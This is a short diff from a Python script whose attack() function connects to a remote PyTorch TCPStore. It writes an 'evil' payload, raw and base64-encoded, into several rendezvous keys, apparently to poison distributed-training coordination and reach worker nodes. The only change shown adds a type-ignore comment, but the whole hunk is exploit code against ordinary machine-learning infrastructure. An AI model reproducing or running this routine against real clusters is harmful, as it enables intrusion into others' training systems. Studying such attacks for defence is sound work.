@@ -52,7 +52,7 @@ def attack(address: str, port: int, mark: Path) -> bool:
         store = TCPStore(address, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
         for value in (base64.b64encode(evil), evil):
             for key in ("torch.rendezvous.yolofleet", "torch.rendezvous.none", "yolofleet/1/evil"):
-                store.set(key, value)
+                store.set(key, value)  # type: ignore[arg-type]  # torch's stub lacks bytes
     except RuntimeError:  # its DistNetworkError among them
         return False
     return True
